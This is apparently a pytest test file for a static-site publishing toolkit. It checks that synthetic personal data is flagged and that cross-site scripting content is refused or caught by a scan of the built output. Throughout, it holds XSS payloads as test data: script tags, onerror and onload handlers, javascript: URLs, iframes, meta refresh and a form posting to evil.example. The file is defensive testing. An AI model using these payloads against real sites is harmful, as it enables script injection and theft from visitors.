"""Trust in what is published (issue 15, output half), through the real `toolkit` command:
personal data in every text an author or web team writes, file types and active SVG refused,
roles and directives on an allow-list, settings escaped, and the scan of every built file.

Two sites, each checked or built once per module: one carrying personal data everywhere (checked),
one carrying every attack the check lets through or refuses (built, then its output scanned).
"""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest

from tests.conftest import SMALL_SITE, SiteFolder, page
from toolkit.site.output_scan import CleanFiles, scan_output
from toolkit.site.publish import Publication, _umask, files_under

NHS = "943 476 5919"          # a valid check digit, outside the 999 test range
PHONE = "0161 555 1234"       # not an Ofcom drama number
EMAIL = "jo.bloggs@realcouncil.gov.uk"


def copy_site(tmp: Path) -> SiteFolder:
    shutil.copytree(SMALL_SITE, tmp / "site")
    return SiteFolder(tmp / "site")


def problems(site: SiteFolder, command: str = "check") -> set[tuple[str, int, str]]:
    result = site.toolkit(command, "--format", "json")
    assert "Traceback" not in result.stderr
    return {(p["path"], p["line"], p["code"]) for p in json.loads(result.stdout)}


# ---------------------------------------------------------------- personal data everywhere

PERSONAL_PAGE = f"""---
id: case-notes
kind: page
title: Notes for {NHS}
summary: Ring {PHONE} about this.
owner: {EMAIL}
changes:
  - {{date: 2026-09-01, summary: "Moved to sw1a 1aa"}}
questions:
  - {{id: q1, text: "Is AB 12 34 56 C yours?", maps_to: KSS-PS-1}}
status: published
last_reviewed: 2026-09-01
review_by: 2027-09-01
---
# Case notes

The number 943**476**5919 was split by emphasis.
Write to jo.bloggs&#64;realcouncil.gov.uk or [her](mailto:{EMAIL}).
Fill in [the form](https://forms.example/?nhs=9434765919).
The number 943 476
5919 runs over two lines, and 943\u200b476\u200b5919 hides a zero-width space.
A link splits [943](https://www.gov.uk/) 476 5919.
And 9\u0334434765919 carries a combining mark.

![A letter to {EMAIL}](letter.png)
"""

SETTINGS_EXTRA = f"""
footer_links:
  - {{label: "Ask {EMAIL}", url: "https://intranet.example/"}}
"""


@pytest.fixture(scope="module")
def personal(tmp_path_factory: pytest.TempPathFactory) -> set[tuple[str, int, str]]:
    site = copy_site(tmp_path_factory.mktemp("personal"))
    site.write("guides/case-notes.md", PERSONAL_PAGE)
    site.write("guides/family.genogram.yaml",
               "index: a\npeople:\n  - {id: a, label: A, sex: female, born: 2017, notes: 01615551234}\n"
               f"  - {{id: b, label: B, sex: male, born: 2015, notes: \"lives at {NHS.replace(' ', '')}\"}}\n")
    site.write("guides/templates/contacts.csv", f"name,phone\nMum,{PHONE}\n")
    site.write("guides/drawing.svg", '<svg xmlns="http://www.w3.org/2000/svg">\n<text>A</text>\n'
                                     f'<text>NHS {NHS}</text>\n</svg>\n')
    glossary = site.content / "vocabularies" / "glossary.yaml"
    glossary.write_text(glossary.read_text() + "- {term: Visit, definition: \"Visit SW1A 1AA first.\"}\n")
    topics = site.content / "vocabularies" / "topics.yaml"
    topics.write_text(topics.read_text() + f"- {{id: contact, label: Contact, description: \"Ring {PHONE}.\"}}\n")
    framework = site.content / "frameworks" / "KSS-PS.yaml"
    framework.write_text(framework.read_text().replace(
        "summary: Supervisors set and keep high standards.", "summary: Supervisors like AB 12 34 56 C."))
    site.settings.write_text(site.settings.read_text() + SETTINGS_EXTRA)
    return problems(site)


def line_of(text: str, needle: str) -> int:
    return next(number for number, line in enumerate(text.split("\n"), 1) if needle in line)


@pytest.mark.parametrize(("where", "needle", "code"), [
    ("title", "title:", "personal-data-nhs-number"),
    ("summary", "summary: Ring", "personal-data-phone"),
    ("owner", "owner:", "personal-data-email"),
    ("changes", "Moved to", "personal-data-postcode"),
    ("emphasis", "943**476", "personal-data-nhs-number"),
    ("entity", "&#64;", "personal-data-email"),
    ("mailto", "mailto:", "personal-data-email"),
    ("link query", "forms.example", "personal-data-nhs-number"),
    ("two lines", "The number 943 476", "personal-data-nhs-number"),
    ("zero-width", "zero-width", "personal-data-nhs-number"),
    ("split by a link", "A link splits", "personal-data-nhs-number"),
    ("combining mark", "combining mark", "personal-data-nhs-number"),
    ("questions (a field this kind does not have)", "AB 12 34 56 C", "personal-data-ni-number"),
    ("alt text", "![A letter", "personal-data-email"),
])
def test_personal_data_in_page_front_matter_and_body(personal: set, where: str, needle: str, code: str) -> None:
    assert ("content/guides/case-notes.md", line_of(PERSONAL_PAGE, needle), code) in personal


@pytest.mark.parametrize(("path", "line", "code"), [
    ("content/guides/family.genogram.yaml", 3, "personal-data-phone"),       # a YAML number, as written
    ("content/guides/family.genogram.yaml", 4, "personal-data-nhs-number"),
    ("content/vocabularies/glossary.yaml", 2, "personal-data-postcode"),
    ("content/vocabularies/topics.yaml", 3, "personal-data-phone"),
    ("content/frameworks/KSS-PS.yaml", 11, "personal-data-ni-number"),
    ("site.yaml", 8, "personal-data-email"),
    ("content/guides/templates/contacts.csv", 2, "personal-data-phone"),   # a download, as published
    ("content/guides/drawing.svg", 3, "personal-data-nhs-number"),
])
def test_personal_data_in_every_data_file_and_the_settings(personal: set, path: str, line: int, code: str) -> None:
    assert (path, line, code) in personal


def test_the_settings_own_contacts_are_allowed(personal: set) -> None:
    assert not any(path == "site.yaml" and line < 8 for path, line, _ in personal)


# ---------------------------------------------------------------- attacks the check refuses

F = "```"
ATTACK_PAGE = f"""---
id: attacks
kind: page
title: Attacks
summary: Every attack from issue 15.
status: published
last_reviewed: 2026-09-01
review_by: 2027-09-01
---
# Attacks

{{material-regular}}`home;2em;x"><iframe src="data:text/html,x"></iframe>`

{{octicon}}`check;1em"><meta http-equiv="refresh" content="0;url=https://evil.example">`

Area {{math}}`\\pi r^2`

![drawing](files/active.svg)

{{download}}`a page <files/page.htm>` and {{download}}`xhtml <files/page.xhtml>`

{F}{{csv-table}}
:header: a, b

1, [x](javascript:alert(1))
{F}

{F}{{only}} html
other
{F}

:::{{card}} A card
:img-top: files/active.svg
:::

{{abbr}}`XSS (<script>alert(1)</script>)`

![A <img src=x onerror=alert(1)> tag](files/plain.png)

[A page](https://www.gov.uk/ "see <script>alert(1)</script>")

See [the guide](genogram) and [the form](files/page.xhtml).
"""


@pytest.fixture(scope="module")
def refused(tmp_path_factory: pytest.TempPathFactory) -> tuple[SiteFolder, set[tuple[str, int, str]]]:
    site = copy_site(tmp_path_factory.mktemp("refused"))
    site.write("guides/attacks.md", ATTACK_PAGE)
    site.write("guides/files/active.svg", '<svg xmlns="http://www.w3.org/2000/svg">\n'
                                          '<a xlink:href="javascript:alert(1)"><circle r="4"/></a>\n</svg>\n')
    site.write("guides/files/page.htm", "<script>alert(1)</script>")
    site.write("guides/files/plain.png", b"\x89PNG\r\n\x1a\n")
    site.write("guides/files/page.xhtml", "<html><script>alert(1)</script></html>")
    return site, problems(site)


@pytest.mark.parametrize(("needle", "code"), [
    ("{material-regular}", "unsafe-role"),
    ("{octicon}", "unsafe-role"),
    ("{math}", "unsafe-role"),
    ("files/active.svg", "svg-active-content"),
    ("files/page.htm", "file-type-not-allowed"),
    ("javascript:alert", "unsafe-url"),
    ("{only}", "unsafe-directive"),
    (":img-top:", "svg-active-content"),
    ("{abbr}", "unsafe-attribute"),          # what the build would take out, the check refuses first
    ("onerror", "unsafe-attribute"),
    ('"see <script>', "unsafe-attribute"),
    ("[the guide](genogram)", "unknown-link"),   # a Markdown link: to a page id or label only
])
def test_check_refuses_each_attack_at_its_line(refused: tuple, needle: str, code: str) -> None:
    _, found = refused
    assert ("content/guides/attacks.md", line_of(ATTACK_PAGE, needle), code) in found


def test_build_refuses_the_attacks_and_publishes_nothing(refused: tuple) -> None:
    site, _ = refused
    result = site.toolkit("build")
    assert result.status == 1
    assert "Traceback" not in result.stderr
    assert not (site.folder / "_build" / "html").exists()


# ---------------------------------------------------------------- a site built with what the check lets through


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> SiteFolder:
    """A site whose texts carry markup and script as words: the check lets them through, and the
    build must show them as text."""
    site = copy_site(tmp_path_factory.mktemp("built"))
    hostile = '<b onmouseover="alert(1)">x</b><iframe src="//evil.example"></iframe>'
    settings = site.settings.read_text().replace(
        "name: Testshire Practice Toolkit", f"name: 'Testshire & <i>Co</i> {hostile}'")
    site.settings.write_text(settings + "base_url: https://intranet.testshire.example/toolkit/\n")
    framework = site.content / "frameworks" / "KSS-PS.yaml"
    framework.write_text(framework.read_text().replace("title: Knowledge and skills statement for practice supervisors",
                                                       f"title: 'Supervisors {hostile}'"))
    glossary = site.content / "vocabularies" / "glossary.yaml"
    glossary.write_text(glossary.read_text() + f"- {{term: 'Risk <script>', definition: '{hostile} &amp; more', "
                        "aliases: ['R &amp; S']}\n")
    topics = site.content / "vocabularies" / "topics.yaml"
    topics.write_text(topics.read_text() + f"- {{id: odd, label: '{hostile}', description: '{hostile}'}}\n")
    genogram = (f"{F}{{genogram}}\nindex: a\npeople:\n"
                f"  - {{id: a, label: '{hostile}', sex: female, born: 2017, notes: '{hostile}'}}\n{F}\n")
    text = page("words", title=f"'Words &amp; \"so\" {hostile}'", summary=f"'A &#64; {hostile}'", topics="[odd]",
                body="Use `<script>alert(1)</script>` as an example of code.\n\n"
                     "Ask the {term}`psw` or {term}`a risk <r &amp; s>`.\n\n"
                     "{octicon}`check;1em` A ticked box. [A link](https://www.gov.uk/) to elsewhere.\n\n"
                     + genogram)
    site.write("guides/words.md", re.sub(r"(?m)^# .*$", "# Words", text))
    result = site.toolkit("build")
    assert result.status == 0, result.stderr
    assert ", 0 warnings," in result.stdout, result.stderr   # no link broken by the text it carries
    return site


def test_built_site_has_no_script_frame_handler_or_other_host(built: SiteFolder) -> None:
    out = built.folder / "_build" / "html"
    assert scan_output(out, files_under(out), "https://intranet.testshire.example/toolkit/") == []
    for path in out.rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        assert not re.search(r"<iframe|<i>Co</i>|<b onmouseover", text), path
        assert not re.search(r"<script(?![^>]*\bsrc=\"(?:\.\./|/toolkit/)*(?:_static|pagefind)/)", text), path


def test_site_name_is_shown_as_written(built: SiteFolder) -> None:
    text = (built.folder / "_build" / "html" / "words.html").read_text(encoding="utf-8")
    escaped = "Testshire &amp; &lt;i&gt;Co&lt;/i&gt;"
    assert text.count(escaped) >= 3   # <title>, the mobile header, the sidebar
    assert "Testshire &amp;amp;" not in text   # escaped once, not twice


def test_author_text_with_entities_quotes_and_markup_is_shown_as_written(built: SiteFolder) -> None:
    """What an author or web team wrote, `&amp;` and `<` included, is what a reader sees, in
    generated pages (built from Markdown) as in templates."""
    out = built.folder / "_build" / "html"
    title = "Words &amp;amp; &quot;so&quot; &lt;b onmouseover="
    assert title in (out / "topics" / "odd.html").read_text(encoding="utf-8")           # a page listing
    assert "A &amp;#64; &lt;b" in (out / "topics" / "odd.html").read_text(encoding="utf-8")  # its summary
    frameworks = (out / "frameworks" / "index.html").read_text(encoding="utf-8")
    assert re.search(r'<a class="reference internal" href="KSS-PS.html"><span[^>]*>Supervisors &lt;b onmouseover=',
                     frameworks)                                                         # a linked title with <
    glossary = (out / "glossary.html").read_text(encoding="utf-8")
    assert "&amp;amp; more" in glossary and "R &amp;amp; S" in glossary


def test_term_role_links_the_glossary_entry(built: SiteFolder) -> None:
    words = (built.folder / "_build" / "html" / "words.html").read_text(encoding="utf-8")
    assert re.search(r'<a class="[^"]*toolkit-term[^"]*" href="glossary.html#term-psw"><span>psw</span></a>', words)
    assert re.search(r'href="glossary.html#term-risk-script"><span>a risk</span></a>', words)


def test_not_found_page_keeps_its_base_path(built: SiteFolder) -> None:
    text = (built.folder / "_build" / "html" / "404.html").read_text(encoding="utf-8")
    assert 'href="/toolkit/_static/' in text


BAD_SOURCE_URLS = [
    "https://x.example/a\n\n<iframe src='data:text/html,x'>",
    "https://x.example/a) [b](javascript:alert(1)",
    "javascript:alert(1)",
    "https://x.example/a b",
]


@pytest.fixture(scope="module")
def bad_urls(tmp_path_factory: pytest.TempPathFactory) -> set[tuple[str, int, str]]:
    """One framework file per bad source_url, all checked at once."""
    site = copy_site(tmp_path_factory.mktemp("urls"))
    framework = (site.content / "frameworks" / "KSS-PS.yaml").read_text()
    for number, url in enumerate(BAD_SOURCE_URLS):
        text = re.sub(r"source_url: .*", "source_url: " + json.dumps(url), framework)
        site.write(f"frameworks/BAD{number}.yaml", text.replace("id: KSS-PS", f"id: BAD{number}"))
    return problems(site)


@pytest.mark.parametrize("number", range(len(BAD_SOURCE_URLS)))
def test_a_url_field_is_one_web_address(bad_urls: set, number: int) -> None:
    assert (f"content/frameworks/BAD{number}.yaml", 5, "wrong-type") in bad_urls


def test_base_url_is_one_web_address(tmp_path: Path) -> None:
    site = copy_site(tmp_path)
    site.settings.write_text(site.settings.read_text()
                             + "base_url: 'https://intranet.example/\"><script>alert(1)</script>'\n")
    result = site.toolkit("check")
    assert result.status == 1 and "site.yaml:6: error: 'base_url' should be one web address" in result.stdout
    assert "Traceback" not in result.stderr


def test_a_rebuild_scans_again_every_built_file_that_changed(tmp_path: Path) -> None:
    """A rebuild scans only the built files that differ from the last clean scan: a file changed
    in any way, or any file once the site's address changes, is scanned again."""
    html = tmp_path / "html"
    (html / "_static").mkdir(parents=True)
    (html / "page.html").write_text("<p>Hello</p>")
    (html / "_static" / "site.css").write_text("p { color: red }")
    files = [Path("page.html"), Path("_static/site.css")]
    first = CleanFiles(tmp_path, None)
    assert first.unscanned(html, files) == files
    first.remember()
    assert CleanFiles(tmp_path, None).unscanned(html, files) == []
    (html / "page.html").write_text("<p>Hello</p><script>alert(1)</script>")
    changed = CleanFiles(tmp_path, None)
    assert changed.unscanned(html, files) == [Path("page.html")]
    assert scan_output(html, changed.unscanned(html, files)) == ["page.html:1: <script> element",
                                                                   "page.html:1: script written into the page"]
    assert CleanFiles(tmp_path, "https://intranet.example/toolkit/").unscanned(html, files) == files


def test_unsafe_output_fails_the_build_and_keeps_the_old_site(built: SiteFolder) -> None:
    """A logo is the web team's file, copied as it is: an SVG logo with script passes the check,
    and the scan of the built files stops it being published. (Last: it changes the built site.)"""
    site = built
    index = site.folder / "_build" / "html" / "index.html"
    before = index.read_text(encoding="utf-8")
    (site.folder / "logo.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n')
    site.settings.write_text(site.settings.read_text() + "logo: logo.svg\n")
    result = site.toolkit("build")
    assert result.status == 1
    assert "_static/logo.svg:1: event-handler attribute 'onload' on <svg>" in result.stderr
    assert "nothing was published" in result.stderr
    assert index.read_text(encoding="utf-8") == before
    # The new folder, filled while the build was checked, is gone; it was never anyone else's.
    assert sorted(p.name for p in index.parent.parent.iterdir()) == ["cache", "html"]


# ---------------------------------------------------------------- the scan itself, on markup a browser would run

ACTIVE_MARKUP = [
    '<p>Hi</p><script>alert(1)</script>',
    '<script src="https://cdn.example/x.js"></script>',
    '<div onclick="alert(1)">x</div>',
    '<DIV OnMouseOver=alert(1)>x</DIV>',
    '<a title=x"y onclick=alert(1)>a quote inside an unquoted value opens nothing</a>',
    '<img/onerror=alert(1) src=x>',
    '<iframe src="/page.html"></iframe>',
    '<object data="x.swf"></object>', '<embed src="x.swf">', '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<a href="java&#115;cript:alert(1)">x</a>', '<a href=" JAVASCRIPT:alert(1)">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<img src="//evil.example/p.gif">', '<img src="/\t/evil.example/p.gif">',
    '<img srcset="a.png 1x, https://evil.example/b.png 2x">',
    '<link rel="stylesheet" href="https://evil.example/s.css">',
    '<p style="background:url(https://evil.example/t.gif)">x</p>',
    '<style>@import "https://evil.example/s.css";</style>',
    '<p style="background:\\75 rl(https://evil.example/t.gif)">CSS escapes</p>',
    '<svg><use href="https://evil.example/s.svg#a"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
    '<svg><foreignObject><p>x</p></foreignObject></svg>',
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>'.replace("onmouseover", "on" + "load"),
    # the same characters read two ways: as a <title>'s text, or as markup (inside SVG)
    '<svg><title><a title="</title><img src=x onerror=alert(1)>">t</a></title></svg>',
    '<!-- <a title=" --> <img src=x onerror=alert(1)> "> -->',
    '<form action="https://evil.example/collect"><button>Send</button></form>',
]


@pytest.mark.parametrize("markup", ACTIVE_MARKUP)
def test_scan_finds_what_a_browser_would_run_or_fetch(markup: str) -> None:
    from toolkit.content.publishable import active_content
    assert active_content(markup), markup


@pytest.mark.parametrize("markup", [
    '<a href="https://www.gov.uk/guidance">a link the reader follows</a>',
    '<p title="on the day: 5 &amp; 6">onion, javascript: the word</p>',
    '<a href="mailto:psw@testshire.example">write</a>',
    '<link rel="canonical" href="https://intranet.example/toolkit/page.html">',
    '<meta http-equiv="Content-Security-Policy" content="default-src \'self\'">',
    '<img src="_images/family.png" alt="A family">',
    '<p>&lt;script&gt;alert(1)&lt;/script&gt; shown as text</p>',
])
def test_scan_lets_the_toolkits_own_markup_through(markup: str) -> None:
    from toolkit.content.publishable import active_content
    assert active_content(markup) == []


def test_scan_verdicts_do_not_depend_on_what_was_scanned_before() -> None:
    """The scan remembers the tags that carried nothing (a site repeats its theme's on every page):
    each piece of markup gets the same findings whatever was scanned before it, and a redirect or a
    script allowed on one page is still found on a page where it is not allowed."""
    from toolkit.content.publishable import active_content
    markup = ACTIVE_MARKUP + [f'<p class="x">{text}</p>' for text in ACTIVE_MARKUP]
    forwards = [active_content(text) for text in markup]
    backwards = [active_content(text) for text in reversed(markup)][::-1]
    assert forwards == backwards
    assert all(forwards)
    refresh = '<meta http-equiv="refresh" content="0; url=page.html">'
    assert active_content(refresh, refresh_allowed=True) == []
    assert active_content(refresh) == [(1, "<meta http-equiv='refresh'> (a redirect or a change to how the page "
                                           "is read)")]
    script = '<script src="_static/page.js"></script>'
    assert active_content(script, lambda src: True) == []
    assert active_content(script, lambda src: False) == [(1, "<script> element loading '_static/page.js'")]


def test_scan_of_hostile_text_does_not_hang() -> None:
    from toolkit.content.publishable import active_content
    assert active_content("<a " + "b" * 50_000 + " c=" * 20_000) == []


# ---------------------------------------------------------------- the preview keeps the same promise


def test_the_preview_withholds_what_the_final_scan_refuses(tmp_path: Path) -> None:
    """`toolkit serve` runs the build's final scan after every rebuild: the SVG logo with script
    (the web team's file, which passes the check) is not served, and the banner names it."""
    from tests.test_preview_problems import _get, previewing, wait_for

    site = copy_site(tmp_path)
    logo = site.folder / "logo.svg"
    logo.write_text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>\n')
    site.settings.write_text(site.settings.read_text() + "logo: logo.svg\n")
    with previewing(site) as (address, log):
        def banner() -> str:
            return _get(address + "_preview/problems.json") or ""
        wait_for(lambda: "onload" in banner(), "the scan's finding in the banner", log)
        listed = [p for p in json.loads(banner()) if p["path"] == "_static/logo.svg (as built)"]
        assert listed and "event-handler attribute 'onload' on <svg>" in listed[0]["message"], banner()
        assert _get(address + "_static/logo.svg") == ""
        assert "unsafe output withheld from the preview: _static/logo.svg:1:" in log.read_text()
        assert "Traceback" not in log.read_text()


def test_a_publication_is_only_its_owners_until_it_is_installed(tmp_path: Path) -> None:
    built, out = tmp_path / "built", tmp_path / "site"
    (built / "pages").mkdir(parents=True)
    (built / "pages" / "a.html").write_text("<p>A</p>")
    with Publication(built, [Path("pages/a.html")], out) as publication:
        [fresh] = [p for p in tmp_path.iterdir() if p.name.startswith(".site.new-")]
        assert fresh.stat().st_mode & 0o077 == 0
        publication.install()
    assert (out / "pages" / "a.html").read_text() == "<p>A</p>"
    assert out.stat().st_mode & 0o777 == 0o777 & ~_umask()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["built", "site"]
